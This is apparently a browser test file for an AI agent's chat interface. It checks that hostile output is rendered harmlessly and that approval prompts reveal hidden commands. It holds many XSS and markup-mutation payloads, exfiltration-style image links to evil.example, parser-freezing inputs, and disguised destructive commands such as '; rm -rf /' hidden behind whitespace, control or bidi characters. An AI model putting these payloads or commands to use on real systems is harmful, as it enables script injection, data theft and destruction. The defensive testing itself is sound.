// Hostile contents, one prompt each in one page: nothing runs, nothing is loaded, nothing freezes, and a
// question shows all of what it asks.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { patience, startBrowser, startServer } from "./harness.mjs";

const ran = "globalThis.ran=1";

// The server sends long texts in pieces, like an agent does.
const say = (text, chunk = 4096) => [{ say: { text, chunk } }];
const tool = (args, output = "done", name = "bash") => [{ tool: { name, args, output } }];
const many = (text, times) => text.repeat(times);
const deep = (depth) => many('{"a":[', depth) + many("]}", depth);
const command = (text, ...shown) => ({ ask: "approval", args: { command: text }, shown });

/** Each content is steps of the script, or a question and the texts that it must show. */
const contents = {
  // scripts
  "script": say(`<script>${ran}</script>`),
  "script in capitals": say(`<ScRiPt>${ran}</sCrIpT>`),
  "image with a handler": say(`<img src=x onerror=${ran}>`),
  "handlers without end": say(many(`<img src=x onerror=${ran} `, 500)),
  "svg": say(`<svg onload=${ran}><script>${ran}</script><animate onbegin=${ran} attributeName=x></svg>`),
  "mathml": say(`<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;"></math>`),
  "mutation of a form": say(`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`),
  "mutation of a table": say(`<table><a><style><!--</style><a id="--><img src=1 onerror=${ran}>"></table>`),
  "noscript": say(`<noscript><p title="</noscript><img src=x onerror=${ran}>">`),
  "template": say(`<template><script>${ran}</script></template><slot onslotchange=${ran}>`),
  "comment": say(`<!--><img src=x onerror=${ran}>--> <!-- --!><script>${ran}</script> -->`),
  "cdata": say(`<![CDATA[<script>${ran}</script>]]><?xml-stylesheet href="https://evil.example/a.css"?>`),
  "frame": say(`<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data=https://evil.example/></object>`),
  "base and meta":
    say(`<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">`),
  "style":
    say(`<style>@import "https://evil.example/a.css";*{display:none!important}</style><p style="position:fixed">x</p>`),
  "details and dialog":
    say(`<details open ontoggle=${ran}><dialog open><form action=https://evil.example/><input autofocus onfocus=${ran}>`),
  "clobbered names": say(`<a id=location></a><form id=violations name=body><input name=attributes></form>`),
  "raw text in code": say(`\`\`\`html\n</code></pre><script>${ran}</script>\n\`\`\``),
  "language of code": say(`\`\`\`"><img/src=x/onerror=${ran}>\ncode\n\`\`\``),
  "entities": say(`&lt;script&gt;${ran}&lt;/script&gt; &#60;img src=x onerror=${ran}&#62;`),
  // links and images
  "script links": say(`[a](javascript:${ran}) [b](JaVaScRiPt:${ran}) [c](java\tscript:${ran}) <javascript:${ran}>`),
  "encoded script links": say(`[a](&#106;avascript:${ran}) [b](\u0001javascript:${ran}) [c](javascript&colon;${ran})`),
  "data links":
    say(`[a](data:text/html,<script>opener.ran=1</script>) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)`),
  "reference links": say(`[a][1] ![b][1]\n\n[1]: javascript:${ran} "t' onclick=${ran}"`),
  "attributes in links":
    say(`[a](https://a.example/"onmouseover="${ran}) ![x"onerror="${ran}](https://evil.example/i.png)`),
  "images from elsewhere":
    say(`![a](https://evil.example/?secret) ![b](//evil.example/x) ![c](/api/headless/sessions)`),
  "huge data image": say(`![a](data:image/png;base64,${many("A", 200_000)})`),
  // shapes that make parsers slow
  "quotes in quotes": say(`${many("> ", 1000)}deep`),
  "emphasis": say(many("*a _b ", 4000)),
  "brackets": say(many("[", 30_000)),
  "links in links": say(many("[a](", 8000)),
  "images in links": say(many("![[", 8000)),
  "backticks": say(Array.from({ length: 400 }, (_, i) => many("`", i + 1)).join(" ")),
  "angles": say(many("<a ", 20_000)),
  "open comments": say(many("<!--", 12_000)),
  "tildes and fences": say(many("~~~\n", 4000)),
  "spaces": say(`a${many(" ", 100_000)}b`),
  "spaces in a heading": say(`# a${many(" #", 20_000)}b`),
  "line ends": say(`a${many("\n", 100_000)}b`),
  "reference definitions": say(Array.from({ length: 3000 }, (_, i) => `[r${i}]: https://a.example/${i}`).join("\n")),
  // texts
  "small chunks": [{ repeat: { times: 20_000, steps: [{ say: "a " }] } }],
  "directions": say(`\u202e\u2066\u2067 reversed \u200b\u200d\ufeff ${many("\u0301", 5000)}`),
  "characters of control": say("a\u0000b\u0007c\u001b[2Jd\u009be\u2028f"),
  // calls
  "names of files": tool({ path: "a\u202e/\u0007\n../<img src=x onerror=1>/\u0430dmin" }, "", "read"),
  "name of a tool": tool({ x: 1 }, "<script>globalThis.ran=1</script>", `<img src=x onerror=${ran}>`),
  "keys of arguments": tool(JSON.parse(`{"__proto__":{"x":1},"constructor":"<b>","<img src=x onerror=${ran}>":1}`)),
  "deep arguments in a text": tool({ json: deep(10_000) }, deep(10_000)),
  "change of a long line":
    tool({ path: "a", old_string: many("ab", 30_000), new_string: many("ba", 30_000) }, "", "edit"),
  // questions
  "command after blanks": command(`true${many(" ", 100_000)}; rm -rf /`, "; rm -rf /"),
  "command after 100 KB": command(`echo ${many("words ", 17_000)}; rm -rf /`, "; rm -rf /"),
  "command behind a return": command("rm -rf /\recho hello", "rm -rf /U+000Decho hello"),
  "command behind directions": command("echo \u202e\u2066# rm -rf /\u2069", "echo U+202EU+2066# rm -rf /U+2069"),
  "command with lookalikes": command("/usr/b\u0456n/l\u0455", "/usr/b"),
  "command with markup": command(`<img src=x onerror=${ran}></pre><b>`, `<img src=x onerror=${ran}></pre><b>`),
};

const end = "This content is over.";
const names = Object.keys(contents);

/** script makes each content the answer to the prompt with its number. */
function script() {
  const prompts = names.map((name, i) => {
    const content = contents[name];
    const steps = Array.isArray(content)
      ? content
      : [{ ask: { type: content.ask, tool: "bash", args: content.args, reason: "?", timeout_ms: -1 } }];
    return { match: `content ${i}.`, steps: [...steps, { say: `\n\n${end}` }] };
  });
  return JSON.stringify({ prompts });
}

let browser;
let server;
let folder;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), "maestro-hostile-"));
  const file = join(folder, "script.json");
  writeFileSync(file, script());
  server = await startServer(["--agent", `script:${file}`]);
  browser = await startBrowser();
});
after(async () => {
  await browser?.close();
  await server?.close();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

/** play sends the prompt of a content, looks at what the page shows, and returns the longest task in ms. */
async function play(p, i) {
  const { page } = p;
  const content = contents[names[i]];
  await page.evaluate(() => (globalThis.longest = 0));
  await page.locator(".composer textarea").fill(`content ${i}.`);
  await page.locator(".composer textarea").press("Enter");
  if (!Array.isArray(content)) {
    await page.locator(".question").waitFor();
    const shown = await page.locator(".question").innerText();
    for (const text of content.shown ?? []) assert.ok(shown.includes(text), `the question does not show ${text}`);
    await harmless(page);
    await page.locator(".question").getByRole("button", { name: /^(Deny|Decline|Cancel)$/ }).first().click();
  }
  await page.waitForFunction(
    ([prompt, last]) => {
      const rows = [...document.querySelectorAll(".transcript .row")].map((r) => r.textContent);
      const newest = (text) => rows.findLastIndex((r) => r.includes(text));
      return rows.at(-1)?.includes(last) || newest(last) > newest(prompt);
    },
    [`content ${i}.`, end],
  );
  await page.locator('.transcript[aria-busy="false"]').waitFor();
  const line = page.locator("button.line");
  if (Array.isArray(content) && content[0].tool) await line.last().click();
  await harmless(page);
  await page.evaluate(async () => {
    // The list draws only what is visible.
    const list = document.querySelector(".transcript");
    const frame = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    for (let i = 0; i < 4; i++) {
      list.scrollTop -= list.clientHeight;
      await frame();
    }
    list.scrollTop = list.scrollHeight;
    await frame();
  });
  await harmless(page);
  return page.evaluate(() => globalThis.longest);
}

async function harmless(page) {
  const bad = await page.evaluate(() =>
    [...document.querySelectorAll(".transcript *, .question *")]
      .filter(
        (e) =>
          /^(img|script|iframe|object|embed|style|math|base|meta|template|dialog)$/i.test(e.tagName) ||
          (e.tagName === "A" && !/^(https?:|mailto:|#)/.test(e.getAttribute("href") ?? "#")) ||
          [...e.attributes].some((a) => /^on/i.test(a.name)),
      )
      .map((e) => e.outerHTML.slice(0, 100)),
  );
  assert.deepEqual(bad, []);
}

/** limit is the longest task that nobody notices as a freeze, in ms. */
const limit = 200;

test("hostile contents", { timeout: 20 * patience }, async (t) => {
  const p = await browser.open(await server.link());
  const foreign = [];
  p.page.on("request", (r) => {
    if (!r.url().startsWith(server.url)) foreign.push(r.url());
  });
  p.context.on("page", (other) => foreign.push(`a page: ${other.url()}`));
  await p.page.evaluate(() => {
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) globalThis.longest = Math.max(globalThis.longest, e.duration);
    }).observe({ type: "longtask" });
  });
  for (const [i, name] of names.entries()) {
    const complained = (await p.complaints()).length;
    await t.test(name, async () => {
      // Other work on the machine makes a task long by chance, and a content does it each time.
      const tasks = [];
      do tasks.push(await play(p, i));
      while (tasks.at(-1) > limit && tasks.length < 10);
      assert.ok(Math.min(...tasks) <= limit, `the page froze for ${tasks.join(", ")} ms`);
      assert.equal(await p.page.evaluate(() => globalThis.ran), undefined, "a script ran");
      assert.deepEqual(foreign, [], "something was loaded");
      const all = await p.complaints();
      assert.deepEqual(all.slice(complained), [], "the page complained");
    });
  }
});
